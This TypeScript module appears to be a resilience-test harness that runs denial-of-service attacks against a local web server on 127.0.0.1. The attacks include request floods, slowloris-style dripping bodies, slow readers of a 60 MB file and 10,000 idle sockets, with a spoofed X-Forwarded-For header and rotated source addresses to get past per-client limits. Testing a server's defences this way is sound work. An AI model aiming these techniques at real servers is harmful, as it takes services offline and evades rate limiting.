import { Agent, type RequestOptions, request } from "node:http";
import { connect } from "node:net";

/** A site under attack, and its pages. */
export type Target = { readonly port: number; readonly pages: readonly string[] };

/** Of the folder that is attacked: more than the system keeps for a reader who does not read. */
export const largeFile = { name: "large.txt", bytes: 60_000_000 };

/** Goes on until its process is ended. */
type Attack = { readonly name: string; readonly run: (target: Target) => void };

/** Of this machine, but another one than the visitors': the limits by connection see somebody else. */
const addresses = ["127.0.0.9", "127.0.0.10", "127.0.0.11", "127.0.0.12"] as const;
/** What the proxy of this machine would say of the one client that attacks. */
const client = { "X-Forwarded-For": "203.0.113.9" };

const usualWords =
  "select the project and open its settings before you change who can see it because every change is shown to team at once history";
const search = JSON.stringify({ query: `${usualWords} -runner -invoice -queue -filter`, pageSize: 100 });
const jsonHead = { ...client, "Content-Type": "application/json" };

/** What one client may try, each with all its strength. */
export const attacks = {
  searches: {
    name: "searches of 30 common words, 40 at once",
    run: flood(40, (turn, { port }) =>
      turn % 4 === 0
        ? ask({ port, path: `/search-results/?searchTerm=${encodeURIComponent(`${usualWords} ${turn}`)}` })
        : ask({ port, path: "/gateway/api/help-content/v2/search", method: "POST", headers: jsonHead }, search),
    ),
  },
  slowReaders: { name: "600 readers of a file of 60 MB who do not read", run: slowReaders },
  drippingBodies: { name: "500 bodies that drip a byte a second", run: drippingBodies },
  markdown: {
    name: "pages as Markdown, 40 at once, left after 150 ms",
    run: flood(40, (turn, { port, pages }) => ask({ port, path: `${pages[turn % pages.length]}.md`, timeout: 150 })),
  },
  pages: {
    name: "pages that are not in memory, 40 at once",
    run: flood(40, (turn, { port, pages }) => ask({ port, path: `${pages[turn % pages.length]}/?preview=${turn}` })),
  },
  unknown: {
    name: "addresses that do not exist, 40 at once",
    run: flood(40, (turn, { port }) => ask({ port, path: `/no/such/page/${turn}` })),
  },
  sockets: { name: "10,000 connections that ask for nothing", run: idleSockets },
} satisfies Readonly<Record<string, Attack>>;

export type AttackName = keyof typeof attacks;

// Its keys are these.
export const attackNames = Object.keys(attacks) as AttackName[];

/** So many clients, each of which asks again as soon as it was answered. */
function flood(connections: number, askOnce: (turn: number, target: Target) => Promise<void>): Attack["run"] {
  return (target) => {
    let turn = 0;
    const ever = async (): Promise<never> => {
      for (;;) await askOnce(turn++, target);
    };
    for (let each = 0; each < connections; each += 1) void ever();
  };
}

const agent = new Agent({ keepAlive: true, localAddress: addresses[0] });

function ask(options: RequestOptions, body?: string): Promise<void> {
  return new Promise((resolve) => {
    const asked = request({ host: "127.0.0.1", agent, headers: client, ...options }, (response) => response.resume());
    // Refused connections are asked for again, but not in a loop without end.
    asked.on("error", () => undefined).once("close", () => setImmediate(resolve));
    asked.once("timeout", () => asked.destroy());
    asked.end(body);
  });
}

function slowReaders({ port }: Target): void {
  keep(600, port, (socket) => {
    socket.pause();
    socket.write(`GET /media/${largeFile.name} HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 203.0.113.9\r\n\r\n`);
  });
}

function drippingBodies({ port }: Target): void {
  keep(500, port, (socket) => {
    socket.write(
      "POST /gateway/api/help-content/v2/search HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 203.0.113.9\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n",
    );
    const drip = setInterval(() => socket.write(" "), 1000);
    socket.once("close", () => clearInterval(drip));
  });
}

function idleSockets({ port }: Target): void {
  keep(10_000, port, () => undefined);
}

type RawSocket = ReturnType<typeof connect>;

/** So many connections; one that is closed is opened again, a second later. */
function keep(count: number, port: number, use: (socket: RawSocket) => void): void {
  const open = (each: number) => {
    const localAddress = addresses[each % addresses.length] ?? addresses[0];
    const socket = connect({ port, host: "127.0.0.1", localAddress }, () => use(socket));
    socket.on("error", () => undefined);
    socket.once("close", () => setTimeout(open, 1000, each));
  };
  // A connection each hundredth of a millisecond would be an attack on this machine's own tables.
  for (let each = 0; each < count; each += 1) setTimeout(open, each / 10, each);
}
